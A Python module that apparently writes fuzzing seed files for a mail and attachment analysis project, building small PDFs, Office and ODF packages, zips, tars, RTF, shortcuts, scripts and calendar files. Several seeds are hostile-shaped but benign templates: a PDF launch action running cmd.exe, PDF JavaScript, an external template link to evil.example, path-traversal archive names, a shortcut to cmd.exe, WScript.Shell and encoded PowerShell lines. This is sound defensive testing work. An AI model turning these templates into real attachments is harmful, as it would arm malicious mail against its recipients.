"""Writes the seeds: the samples, the vectors of the tests, and small files built here. No mail of anyone's.

`python -m fuzz.seeds FOLDER` makes a folder a target.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import hashlib
import io
import lzma
import struct
import sys
import tarfile
import zipfile
import zlib
from pathlib import Path

import yaml

from fuzz import proof_seeds
from fuzz.targets import TARGETS

_PROJECT = Path(__file__).resolve().parent.parent
_PAGE = b'<a href="javascript:x">a</a><script>atob("aGVsbG8=")</script>'
_MOST = 20_000
"""A seed larger than this slows the fuzzer more than it helps."""


def _samples() -> list[bytes]:
    return [path.read_bytes() for path in sorted((_PROJECT / "samples").glob("*.eml"))]


def _vectors() -> list[dict[str, str]]:
    vectors: list[dict[str, str]] = yaml.safe_load((_PROJECT / "tests" / "mail" / "japanese.yml").read_text("utf-8"))
    return vectors


def _fields(*keys: str) -> list[bytes]:
    """The bodies of fields of these names in the samples."""
    from sabaki.mail import message
    from sabaki.mail.limits import Budget

    mails = [message.read(raw, Budget()) for raw in _samples()]
    found = [field.raw_value for mail in mails for part in mail.parts for field in part.fields if field.key in keys]
    return [value.encode("latin-1") for value in found]


def _bodies(kind: str) -> list[bytes]:
    from sabaki.mail import message
    from sabaki.mail.limits import Budget

    mails = [message.read(raw, Budget()) for raw in _samples()]
    return [
        mail.contents[part.path]
        for mail in mails
        for part in mail.parts
        if part.path in mail.contents and part.content_type == kind
    ]


def _written(kind: str) -> list[bytes]:
    return [vector["written"].encode("latin-1") for vector in _vectors() if vector.get("kind") == kind]


def _texts() -> list[bytes]:
    return [
        f"{vector['declared'] or ''}\n".encode() + bytes.fromhex(vector["octets"])
        for vector in _vectors()
        if "octets" in vector
    ]


def zipped(members: dict[str, bytes], *, stored: bool = False) -> bytes:
    """A zip of these members."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as box:
        for name, content in members.items():
            box.writestr(zipfile.ZipInfo(name), content)
    return held.getvalue()


def tarred(members: dict[str, bytes]) -> bytes:
    """A tar of these members."""
    held = io.BytesIO()
    with tarfile.open(fileobj=held, mode="w") as box:
        for name, content in members.items():
            member = tarfile.TarInfo(name)
            member.size = len(content)
            box.addfile(member, io.BytesIO(content))
    return held.getvalue()


def png(width: int = 2, height: int = 2) -> bytes:
    """A black picture."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    rows = zlib.compress((b"\0" * (width + 1)) * height)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def pdf(*objects: bytes) -> bytes:
    """A PDF of a page with these further objects (from number 4 on)."""
    standing = (
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Annots[4 0 R]>>",
    )
    out, offsets = b"%PDF-1.7\n", []
    for number, content in enumerate((*standing, *objects), 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    count = len(offsets) + 1
    head = b"xref\n0 %d\n0000000000 65535 f \n" % count
    return out + head + table + b"trailer<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF\n" % (count, len(out))


def _pdfs() -> list[bytes]:
    packed = zlib.compress(b"BT (hello) Tj ET")
    return [
        pdf(b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(http://login.example.jp/)>>>>"),
        pdf(b'<</S/JavaScript/JS(app.launchURL\\("http://x.example/"\\))>>'),
        pdf(b"<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>"),
        pdf(b"<</Type/Filespec/F(a.txt)/EF<</F 5 0 R>>>>", b"<</Type/EmbeddedFile/Length 5>>stream\nhello\nendstream"),
        pdf(b"<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (len(packed), packed)),
    ]


def _office() -> list[bytes]:
    types = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    rels = (
        b'<?xml version="1.0"?><Relationships><Relationship Id="rId1" Type="x/attachedTemplate" '
        b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    document = (
        b'<?xml version="1.0"?><w:document xmlns:w="w"><w:body><w:p><w:r><w:t>hello</w:t></w:r>'
        b'<w:fldSimple w:instr="HYPERLINK &quot;http://evil.example/&quot;"/></w:p></w:body></w:document>'
    )
    return [
        zipped(
            {"[Content_Types].xml": types, "word/document.xml": document, "word/_rels/document.xml.rels": rels},
            stored=stored,
        )
        for stored in (True, False)
    ]


def _odf() -> list[bytes]:
    content = (
        b'<?xml version="1.0"?><office:document-content xmlns:office="o" xmlns:text="t" xmlns:xlink="x"><office:body>'
        b'<text:p><text:a xlink:href="http://evil.example/">hello</text:a></text:p></office:body></office:document-content>'
    )
    kind = b"application/vnd.oasis.opendocument.text"
    return [zipped({"mimetype": kind, "content.xml": content}, stored=True), content]


def _zips() -> list[bytes]:
    inner = zipped({"b.txt": b"hello"})
    return [
        inner,
        zipped({"a/../b.exe": b"MZ", "請求書.txt": b"x" * 300, "inner.zip": inner}, stored=True),
        zipped({"zeros": b"\0" * 50_000}),
        b"MZ" + inner,
    ]


def _tnef() -> bytes:
    def attribute(level: int, number: int, content: bytes) -> bytes:
        return struct.pack("<BII", level, number, len(content)) + content + struct.pack("<H", sum(content) & 0xFFFF)

    return (
        struct.pack("<IH", 0x223E9F78, 1)
        + attribute(1, 0x00089006, struct.pack("<I", 0x00010000))
        + attribute(2, 0x00069002, b"\1\0" + b"\0" * 12)
        + attribute(2, 0x00018010, b"a.txt\0")
        + attribute(2, 0x0006800F, b"hello")
    )


def _shortcuts() -> list[bytes]:
    target = "..\\cmd.exe".encode("utf-16-le")
    arguments = "/c echo hello".encode("utf-16-le")
    head = struct.pack("<I16sI", 0x4C, bytes.fromhex("0114020000000000c000000000000046"), 0xA8) + b"\0" * 52
    strings = b"".join(struct.pack("<H", len(text) // 2) + text for text in (target, arguments))
    return [
        head + strings + b"\0\0\0\0",
        b"[InternetShortcut]\r\nURL=http://evil.example/\r\nIconFile=\\\\192.0.2.1\\a.ico\r\n",
        b'<?xml version="1.0"?><plist><dict><key>URL</key><string>http://evil.example/</string></dict></plist>',
        b"[Desktop Entry]\nType=Link\nURL=http://evil.example/\nExec=sh -c true\n",
        b"full address:s:192.0.2.1\r\nremoteapplicationprogram:s:||calc\r\n",
    ]


def _rtfs() -> list[bytes]:
    return [
        rb"{\rtf1\ansi\ansicpg932 hello \'82\'a0 \u12354?\par}",
        rb'{\rtf1{\field{\*\fldinst HYPERLINK "http://evil.example/"}{\fldrslt here}}}',
        rb"{\rtf1{\object\objemb\objupdate{\*\objclass Package}{\*\objdata 0105000002000000080000005061636b61676500}}}",
        rb"{\rtf1\ansi\fromhtml1{\*\htmltag64 <p>}hello{\*\htmltag72 </p>}}",
    ]


def _scripts() -> list[bytes]:
    return [
        b'var a = new ActiveXObject("WScript.Shell"); a.Run("cmd /c echo " + unescape("%68%69"));',
        b'Set a = CreateObject("WScript.Shell")\r\na.Run Chr(99) & "md"\r\n',
        b"powershell -NoP -enc " + base64.b64encode("echo hello".encode("utf-16-le")),
        b"@echo off\r\nset a=ec\r\n%a%ho hello\r\n",
    ]


def _calendars() -> list[bytes]:
    return [
        b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:hello\r\n there\r\nURL:http://evil.example/\r\nEND:VEVENT\r\n",
        b"BEGIN:VCALENDAR\r\nATTACH;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=a.txt:aGVsbG8=\r\nEND:VCALENDAR\r\n",
        b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:a\r\nURL:http://evil.example/\r\nEND:VCARD\r\n",
    ]


def _drawn() -> list[bytes]:
    rows = ["██▀▀▄▄ █" * 6] * 24
    cells = "".join(f'<td bgcolor="{"#000" if n % 3 else "#fff"}">' for n in range(25))
    return ["\n".join(rows).encode(), ("<table>" + f"<tr>{cells}</tr>" * 25 + "</table>").encode()]


def _ole() -> list[bytes]:
    """The head of a compound file: a FAT, a directory with its root, one stream."""
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
    head += struct.pack("<IIIIIIIIII", 0, 1, 1, 0, 0x1000, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0, 0)
    head += b"\xff" * 432
    fat = struct.pack("<III", 0xFFFFFFFD, 0xFFFFFFFE, 0xFFFFFFFE) + b"\xff" * 500

    def entry(name: str, kind: int, child: int, start: int, size: int) -> bytes:
        encoded = name.encode("utf-16-le") + b"\0\0"
        return (
            encoded.ljust(64, b"\0")
            + struct.pack("<HBBIII", len(encoded), kind, 1, 0xFFFFFFFF, 0xFFFFFFFF, child)
            + b"\0" * 36
            + struct.pack("<IQ", start, size)
        )

    directory = entry("Root Entry", 5, 1, 0xFFFFFFFE, 0) + entry("WordDocument", 2, 0xFFFFFFFF, 2, 4096)
    return [head[:76] + struct.pack("<I", 0) + head[80:] + fat + directory.ljust(512, b"\0") + b"\xec\xa5" * 256]


def seeds() -> dict[str, list[bytes]]:
    """The seeds of every target; one without seeds of its own starts from a few plain octets."""
    mails = _samples()
    addresses = _fields("from", "to", "cc", "reply-to", "sender", "return-path") + _written("mailbox")
    parameters = _fields("content-type", "content-disposition") + _written("filename")
    tar = tarred({"../a.txt": b"hello", "b/c.txt": b"x" * 700})
    pages = [*_bodies("text/html"), _PAGE]
    table: dict[str, list[bytes]] = {
        "lexer": addresses + parameters,
        "fields": [raw.partition(b"\n\n")[0] + b"\n\n" for raw in mails] + _written("field"),
        "mime": mails,
        "charsets": _texts(),
        "received": _fields("received"),
        "html": pages,
        "urls": _written("link") + _bodies("text/plain"),
        "addresses": addresses,
        "parameters": parameters,
        "dates": [*_fields("date"), b"2022-08-08T05:07:31Z", b"Mon Aug  8 05:07:31 JST 2022"],
        "authres": _fields("authentication-results", "received-spf", "arc-authentication-results"),
        "drawncodes": _drawn(),
        "mbox": [b"".join(b"From a Mon Aug  8 05:07:31 2022\n" + raw + b"\n" for raw in mails[:2])],
        "dissect": mails,
        "zip": _zips(),
        "archive": [tar, gzip.compress(tar, mtime=0)],
        "compressed": [
            gzip.compress(b"hello", mtime=0),
            bz2.compress(b"hello"),
            lzma.compress(b"hello"),
            b"\x1f\x9d\x90hi",
        ],
        "tnef": [_tnef()],
        "rtf": _rtfs(),
        "pdf": _pdfs(),
        "picture": [
            png(),
            b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\1\0\1\0\0\2\2D\1\0;",
            b"BM" + b"\0" * 60,
        ],
        "ooxml": _office(),
        "ole": _ole(),
        "msg": _ole(),
        "odf": _odf(),
        "shortcut": _shortcuts(),
        "pkcs7": [bytes.fromhex("308006092a864886f70d010702a0803000") + b"\0" * 16],
        "onenote": [bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + b"\0" * 64],
        "calendar": _calendars(),
        "page": pages,
        "script": _scripts(),
        "plain": _bodies("text/plain"),
        "letter": mails,
    }
    files = [
        content for name in ("zip", "rtf", "pdf", "picture", "ooxml", "shortcut", "script") for content in table[name]
    ]
    table["kinds"] = [b"a.bin\n" + content for content in files]
    for name, more in proof_seeds.seeds().items():
        table[name] = [*table.get(name, []), *more]
    return {target.name: [seed[:_MOST] for seed in table.get(target.name, [])] or [b"hello"] for target in TARGETS}


def write(root: Path, only: set[str]) -> None:
    """Write the seeds of the targets named, each under the hash of its content."""
    for name, contents in seeds().items():
        if name not in only:
            continue
        folder = root / name
        folder.mkdir(parents=True, exist_ok=True)
        for content in contents:
            (folder / hashlib.sha256(content).hexdigest()[:16]).write_bytes(content)


if __name__ == "__main__":
    write(Path(sys.argv[1]), {target.name for target in TARGETS})
